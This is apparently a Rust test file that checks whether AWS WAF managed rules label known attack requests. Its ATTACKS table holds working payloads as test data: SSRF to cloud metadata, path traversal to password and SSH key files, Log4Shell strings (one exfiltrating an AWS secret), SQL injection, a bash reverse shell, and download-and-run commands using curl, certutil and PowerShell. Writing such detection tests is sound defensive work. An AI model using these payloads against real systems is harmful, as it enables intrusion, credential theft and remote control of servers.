//! Well-known attacks, each with the label that it gets.

use waf_rules::Bundle;

use super::traffic::{KINDS, Random, Traffic};
use super::{counting, groups_of_patterns, labels};

/// Where an attack stands.
enum In {
    Uri,
    Body,
    Header(&'static str),
    Method,
}
use In::{Body, Header, Method, Uri};

#[test]
fn well_known_attacks_are_found() {
    let acl = counting(&groups_of_patterns(), &Bundle::new());
    for (label, place, text) in ATTACKS {
        let found = labels(&acl, &attack(place, text));
        let label = format!("awswaf:managed:aws:{label}");
        assert!(
            found.contains(&label),
            "{text}: {label} is not among {found:?}"
        );
    }
}

#[test]
fn a_request_without_user_agent_is_found() {
    let acl = counting(&["AWSManagedRulesCommonRuleSet"], &Bundle::new());
    let mut traffic = ordinary();
    traffic.headers.retain(|(name, _)| name != "User-Agent");
    let label = "awswaf:managed:aws:core-rule-set:NoUserAgent_Header";
    assert_eq!(labels(&acl, &traffic), [label]);
    traffic
        .headers
        .push(("User-Agent".to_owned(), String::new()));
    assert_eq!(labels(&acl, &traffic), [label]);
}

#[test]
fn sizes_are_allowed_up_to_the_limit() {
    let acl = counting(&["AWSManagedRulesCommonRuleSet"], &Bundle::new());
    let sized = |place: &In, size: usize| {
        let mut text = match place {
            Uri => "/?".to_owned(),
            _ => String::new(),
        };
        text.push_str(&"a".repeat(size));
        labels(&acl, &attack(place, &text))
    };
    for (place, size, label) in [
        (Uri, 2_048, "SizeRestrictions_QueryString"),
        (Body, 8_192, "SizeRestrictions_Body"),
        // AWS says 10,240, and that no more than 8 KB of cookies can be looked at: more than those match.
        (Header("Cookie"), 8_192, "SizeRestrictions_Cookie_Header"),
    ] {
        assert!(sized(&place, size).is_empty(), "{label}");
        let label = format!("awswaf:managed:aws:core-rule-set:{label}");
        assert_eq!(sized(&place, size + 1), [label]);
    }
    let path = |size: usize| labels(&acl, &attack(&Uri, &format!("/{}", "a".repeat(size - 1))));
    assert!(path(1_024).is_empty());
    assert_eq!(
        path(1_025),
        ["awswaf:managed:aws:core-rule-set:SizeRestrictions_URIPath"]
    );
}

fn ordinary() -> Traffic {
    let (_, page) = KINDS[0];
    page(&mut Random::new(7))
}

/// An ordinary request with the attack in its place.
fn attack(place: &In, text: &str) -> Traffic {
    let mut traffic = ordinary();
    match place {
        Uri => text.clone_into(&mut traffic.uri),
        Body => {
            traffic.method = "POST";
            traffic.body = text.as_bytes().to_vec();
        }
        Header(name) => {
            traffic.headers.retain(|(known, _)| known != name);
            traffic.headers.push(((*name).to_owned(), text.to_owned()));
        }
        Method => traffic.method = "PROPFIND",
    }
    traffic
}

const ATTACKS: &[(&str, In, &str)] = &[
    // Scanners.
    (
        "core-rule-set:BadBots_Header",
        Header("User-Agent"),
        "sqlmap/1.8.4#stable (https://sqlmap.org)",
    ),
    (
        "core-rule-set:BadBots_Header",
        Header("User-Agent"),
        "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
    ),
    (
        "core-rule-set:BadBots_Header",
        Header("User-Agent"),
        "Mozilla/5.00 (Nikto/2.5.0)",
    ),
    // Server-side request forgery.
    (
        "core-rule-set:EC2MetaDataSSRF_QueryArguments",
        Uri,
        "/fetch?url=http%3A%2F%2F169.254.169.254%2Flatest%2Fmeta-data%2F",
    ),
    (
        "core-rule-set:EC2MetaDataSSRF_QueryArguments",
        Uri,
        "/fetch?url=http://2852039166/",
    ),
    (
        "core-rule-set:EC2MetaDataSSRF_QueryArguments",
        Uri,
        "/fetch?url=http://[::ffff:a9fe:a9fe]/",
    ),
    (
        "core-rule-set:EC2MetaDataSSRF_QueryArguments",
        Uri,
        "/fetch?url=http://0xA9FEA9FE/",
    ),
    (
        "core-rule-set:EC2MetaDataSSRF_Body",
        Body,
        "{\"avatar\":\"http://[fd00:ec2::254]/latest/api/token\"}",
    ),
    (
        "core-rule-set:EC2MetaDataSSRF_Cookie",
        Header("Cookie"),
        "next=http://169.254.169.254/",
    ),
    (
        "core-rule-set:EC2MetaDataSSRF_URIPath",
        Uri,
        "/proxy/http://169.254.169.254/latest/user-data",
    ),
    // File inclusion.
    (
        "core-rule-set:GenericLFI_QueryArguments",
        Uri,
        "/?page=../../../../etc/passwd",
    ),
    (
        "core-rule-set:GenericLFI_QueryArguments",
        Uri,
        "/?page=..%2f..%2f..%2fetc%2fpasswd%00.png",
    ),
    (
        "core-rule-set:GenericLFI_QueryArguments",
        Uri,
        "/?page=..%252f..%252fetc%252fpasswd",
    ),
    (
        "core-rule-set:GenericLFI_QueryArguments",
        Uri,
        "/?page=..\\..\\windows\\win.ini",
    ),
    (
        "core-rule-set:GenericLFI_QueryArguments",
        Uri,
        "/?page=file:///etc/shadow",
    ),
    (
        "core-rule-set:GenericLFI_QueryArguments",
        Uri,
        "/?page=....//....//etc/passwd",
    ),
    (
        "core-rule-set:GenericLFI_URIPath",
        Uri,
        "/static/../../../etc/passwd",
    ),
    (
        "core-rule-set:GenericLFI_URIPath",
        Uri,
        "/cgi-bin/.%2e/.%2e/.%2e/bin/sh",
    ),
    (
        "core-rule-set:GenericLFI_Body",
        Body,
        "template=../../../../etc/passwd",
    ),
    (
        "core-rule-set:RestrictedExtensions_URIPath",
        Uri,
        "/backup/site.sql",
    ),
    (
        "core-rule-set:RestrictedExtensions_URIPath",
        Uri,
        "/config.php.bak",
    ),
    ("core-rule-set:RestrictedExtensions_URIPath", Uri, "/.env"),
    (
        "core-rule-set:RestrictedExtensions_QueryArguments",
        Uri,
        "/download?file=logs/server.log",
    ),
    (
        "core-rule-set:GenericRFI_QueryArguments",
        Uri,
        "/?page=http://203.0.113.9/shell.txt",
    ),
    (
        "core-rule-set:GenericRFI_QueryArguments",
        Uri,
        "/?page=ftps%3A%2F%2Fu%3Ap%40203.0.113.9%2Fx",
    ),
    (
        "core-rule-set:GenericRFI_Body",
        Body,
        "a=1&include=https://203.0.113.9/c99.php?",
    ),
    (
        "core-rule-set:GenericRFI_URIPath",
        Uri,
        "/include/http://203.0.113.9/shell",
    ),
    // Cross-site scripting.
    (
        "core-rule-set:CrossSiteScripting_QueryArguments",
        Uri,
        "/?q=%3Cscript%3Ealert(1)%3C/script%3E",
    ),
    (
        "core-rule-set:CrossSiteScripting_QueryArguments",
        Uri,
        "/?q=%22%20onmouseover%3Dalert(1)%20x%3D%22",
    ),
    (
        "core-rule-set:CrossSiteScripting_QueryArguments",
        Uri,
        "/?q=%26lt;script%26gt;alert(1)",
    ),
    (
        "core-rule-set:CrossSiteScripting_QueryArguments",
        Uri,
        "/?q=%u003cimg+src%3dx+onerror%3dalert(1)%u003e",
    ),
    (
        "core-rule-set:CrossSiteScripting_Body",
        Body,
        "comment=<svg/onload=alert(1)>",
    ),
    (
        "core-rule-set:CrossSiteScripting_Body",
        Body,
        "{\"bio\":\"<iframe src=javascript:alert(1)>\"}",
    ),
    (
        "core-rule-set:CrossSiteScripting_Cookie",
        Header("Cookie"),
        "name=<script>alert(1)</script>",
    ),
    (
        "core-rule-set:CrossSiteScripting_URIPath",
        Uri,
        "/hello/<script>alert(1)</script>",
    ),
    // Java deserialization and expression languages.
    (
        "known-bad-inputs:JavaDeserializationRCE_Body",
        Body,
        "class.module.classLoader.resources.context.parent.pipeline.first.pattern=%25%7Bx%7Di",
    ),
    (
        "known-bad-inputs:JavaDeserializationRCE_Header",
        Header("spring.cloud.function.routing-expression"),
        "T(java.lang.Runtime).getRuntime().exec(\"whoami\")",
    ),
    (
        "known-bad-inputs:JavaDeserializationRCE_QueryString",
        Uri,
        "/?id=(java.lang.Runtime).getRuntime().exec(%22whoami%22)",
    ),
    (
        "known-bad-inputs:JavaDeserializationRCE_QueryString",
        Uri,
        "/struts?redirect:%24%7B%23_memberAccess%7D",
    ),
    (
        "known-bad-inputs:JavaDeserializationRCE_Body",
        Body,
        "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA==",
    ),
    (
        "known-bad-inputs:JavaDeserializationRCE_Body",
        Body,
        "{\"@type\":\"com.sun.rowset.JdbcRowSetImpl\",\"dataSourceName\":\"ldap://x/a\"}",
    ),
    (
        "known-bad-inputs:JavaDeserializationRCE_URIPath",
        Uri,
        "/%24%7B%40java.lang.Runtime%40getRuntime%28%29.exec%28%22id%22%29%7D/",
    ),
    (
        "known-bad-inputs:Host_Localhost_Header",
        Header("Host"),
        "localhost:8080",
    ),
    (
        "known-bad-inputs:Host_Localhost_Header",
        Header("Host"),
        "127.0.0.1",
    ),
    ("known-bad-inputs:Propfind_Method", Method, ""),
    (
        "known-bad-inputs:ExploitablePaths_URIPath",
        Uri,
        "/WEB-INF/web.xml",
    ),
    (
        "known-bad-inputs:ExploitablePaths_URIPath",
        Uri,
        "/.git/config",
    ),
    (
        "known-bad-inputs:ExploitablePaths_URIPath",
        Uri,
        "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
    ),
    (
        "known-bad-inputs:ExploitablePaths_URIPath",
        Uri,
        "/actuator/heapdump",
    ),
    (
        "known-bad-inputs:ExploitablePaths_URIPath",
        Uri,
        "/_ignition/execute-solution",
    ),
    // Log4Shell, plain and in disguise.
    (
        "known-bad-inputs:Log4JRCE_Header",
        Header("User-Agent"),
        "${jndi:ldap://example.com/a}",
    ),
    (
        "known-bad-inputs:Log4JRCE_Header",
        Header("X-Api-Version"),
        "${${lower:j}ndi:${lower:l}dap://x/a}",
    ),
    (
        "known-bad-inputs:Log4JRCE_Header",
        Header("Referer"),
        "${${::-j}${::-n}${::-d}${::-i}:${::-r}mi://x/a}",
    ),
    (
        "known-bad-inputs:Log4JRCE_Header",
        Header("Cookie"),
        "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//x/a}",
    ),
    (
        "known-bad-inputs:Log4JRCE_QueryString",
        Uri,
        "/?x=%24%7Bjndi%3Aldap%3A%2F%2Fx%2Fa%7D",
    ),
    (
        "known-bad-inputs:Log4JRCE_QueryString",
        Uri,
        "/?x=${j${k8s:k5:-ND}i:dns://x/a}",
    ),
    (
        "known-bad-inputs:Log4JRCE_Body",
        Body,
        "{\"user\":\"${jndi:dns://x/${env:AWS_SECRET_ACCESS_KEY}}\"}",
    ),
    (
        "known-bad-inputs:Log4JRCE_Body",
        Body,
        "user=&#36;{jndi:rmi://x/a}",
    ),
    (
        "known-bad-inputs:Log4JRCE_URIPath",
        Uri,
        "/$%7Bjndi:ldap://x/a%7D/",
    ),
    (
        "known-bad-inputs:ReactJSRCE_Body",
        Body,
        "{\"then\":\"$1:__proto__:then\",\"status\":\"resolved_model\",\"_response\":{\"_prefix\":\"process.mainModule.require('child_process').execSync('id');\",\"_formData\":{\"get\":\"$1:constructor:constructor\"}}}",
    ),
    // SQL injection.
    (
        "sql-database:SQLi_QueryArguments",
        Uri,
        "/?id=1%27%20OR%20%271%27=%271",
    ),
    (
        "sql-database:SQLi_QueryArguments",
        Uri,
        "/?id=-1+union+select+1,2,3--",
    ),
    (
        "sql-database:SQLiExtendedPatterns_QueryArguments",
        Uri,
        "/?q=an+order+for+bread+and+milk;drop+table+users",
    ),
    (
        "sql-database:SQLiExtendedPatterns_QueryArguments",
        Uri,
        "/?id=1%2F**%2FUNION%2F**%2FALL%2F**%2FSELECT%2F**%2F1",
    ),
    ("sql-database:SQLi_Body", Body, "1' OR '1'='1"),
    (
        "sql-database:SQLiExtendedPatterns_Body",
        Body,
        "name=a&id=1'%20AND%20SLEEP(5)--%20",
    ),
    (
        "sql-database:SQLiExtendedPatterns_Body",
        Body,
        "{\"id\":\"1; EXEC xp_cmdshell('dir')\"}",
    ),
    (
        "sql-database:SQLiExtendedPatterns_Header",
        Header("X-Forwarded-For"),
        "1' and extractvalue(1,concat(0x7e,version()))-- ",
    ),
    (
        "sql-database:SQLiExtendedPatterns_UriPath",
        Uri,
        "/item/1'%20or%20'1'='1",
    ),
    (
        "sql-database:SQLi_Cookie",
        Header("Cookie"),
        "id=1' or 1=1--",
    ),
    (
        "sql-database:SQLi_URIPath",
        Uri,
        "-1'%20union%20select%201,2--",
    ),
    // Linux.
    ("linux-os:LFI_URIPath", Uri, "/files/proc/version"),
    ("linux-os:LFI_URIPath", Uri, "/files/etc/./passwd"),
    (
        "linux-os:LFI_QueryString",
        Uri,
        "/?f=%2Fproc%2Fself%2Fenviron",
    ),
    ("linux-os:LFI_QueryString", Uri, "/?f=/home/app/.ssh/id_rsa"),
    ("linux-os:LFI_Header", Header("X-File"), "/etc/shadow"),
    // POSIX shells.
    (
        "posix-os:UNIXShellCommandsVariables_QueryString",
        Uri,
        "/ping?host=example.com;cat+/etc/passwd",
    ),
    (
        "posix-os:UNIXShellCommandsVariables_QueryString",
        Uri,
        "/ping?host=%24(id)",
    ),
    (
        "posix-os:UNIXShellCommandsVariables_QueryString",
        Uri,
        "/ping?host=x%7Cid",
    ),
    (
        "posix-os:UNIXShellCommandsVariables_QueryString",
        Uri,
        "/ping?host=;wget${IFS}http://x/a",
    ),
    (
        "posix-os:UNIXShellCommandsVariables_Body",
        Body,
        "cmd=echo $HOME",
    ),
    (
        "posix-os:UNIXShellCommandsVariables_Body",
        Body,
        "x=`curl http://203.0.113.9/a`",
    ),
    (
        "posix-os:UNIXShellCommandsVariables_Body",
        Body,
        "x=1;bash -i >& /dev/tcp/203.0.113.9/4444 0>&1",
    ),
    (
        "posix-os:UNIXShellCommandsVariables_Header",
        Header("User-Agent"),
        "() { :;}; /bin/bash -c 'id'",
    ),
    // Windows shells.
    (
        "windows-os:WindowsShellCommands_QueryArguments",
        Uri,
        "/ping?host=x%7C%7Cnslookup+example.com",
    ),
    (
        "windows-os:WindowsShellCommands_QueryArguments",
        Uri,
        "/ping?host=x%3Bc%5Em%5Ed+/c+dir",
    ),
    (
        "windows-os:WindowsShellCommands_Body",
        Body,
        "host=x%26whoami",
    ),
    ("windows-os:WindowsShellCommands_Body", Body, "x=%COMSPEC%"),
    (
        "windows-os:WindowsShellCommands_Cookie",
        Header("Cookie"),
        "a=b|certutil -urlcache -f http://x/a a.exe",
    ),
    (
        "windows-os:PowerShellCommands_QueryArguments",
        Uri,
        "/?x=Invoke-Expression+(New-Object+Net.WebClient).DownloadString(%27http://x/a%27)",
    ),
    (
        "windows-os:PowerShellCommands_Body",
        Body,
        "x=powershell.exe -EncodedCommand aQBkAA==",
    ),
    (
        "windows-os:PowerShellCommands_Body",
        Body,
        "x=po`wer`shell -nop -w hidden",
    ),
    (
        "windows-os:PowerShellCommands_Cookie",
        Header("Cookie"),
        "a=IEX(1)",
    ),
    // PHP.
    (
        "php-app:PHPHighRiskMethodsVariables_QueryString",
        Uri,
        "/?x=%3C%3Fphp+system($_GET%5B0%5D)",
    ),
    (
        "php-app:PHPHighRiskMethodsVariables_QueryString",
        Uri,
        "/?page=php://filter/convert.base64-encode/resource=index",
    ),
    (
        "php-app:PHPHighRiskMethodsVariables_QueryString",
        Uri,
        "/?-d+allow_url_include%3d1+-d+auto_prepend_file%3dphp://input",
    ),
    (
        "php-app:PHPHighRiskMethodsVariables_Body",
        Body,
        "x=fsockopen(\"203.0.113.9\",4444)",
    ),
    (
        "php-app:PHPHighRiskMethodsVariables_Body",
        Body,
        "a=O:8:\"Monolog\\Handler\":1:{s:3:\"x\";i:1;}&x=unserialize(a)",
    ),
    (
        "php-app:PHPHighRiskMethodsVariables_Header",
        Header("User-Agent"),
        "<?php eval($_POST['x']);?>",
    ),
    (
        "php-app:PHPHighRiskMethodsVariables_URIPath",
        Uri,
        "/index.php/%3C%3Fphp%20phpinfo()",
    ),
    // WordPress.
    (
        "wordpress-app:WordPressExploitableCommands_QUERYSTRING",
        Uri,
        "/wp-admin/admin.php?page=do-reset-wordpress",
    ),
    (
        "wordpress-app:WordPressExploitableCommands_QUERYSTRING",
        Uri,
        "/wp-admin/admin-ajax.php?action=revslider_show_image&img=../wp-config.php",
    ),
    (
        "wordpress-app:WordPressExploitablePaths_URIPATH",
        Uri,
        "/xmlrpc.php",
    ),
    (
        "wordpress-app:WordPressExploitablePaths_URIPATH",
        Uri,
        "/blog//wp-content/uploads/2024/x.php",
    ),
    // Administration.
    (
        "admin-protection:AdminProtection_URIPath",
        Uri,
        "/sqlmanager/",
    ),
    (
        "admin-protection:AdminProtection_URIPath",
        Uri,
        "/phpMyAdmin-5.2.1/index.php",
    ),
    (
        "admin-protection:AdminProtection_URIPath",
        Uri,
        "/site/administrator/index.php",
    ),
];
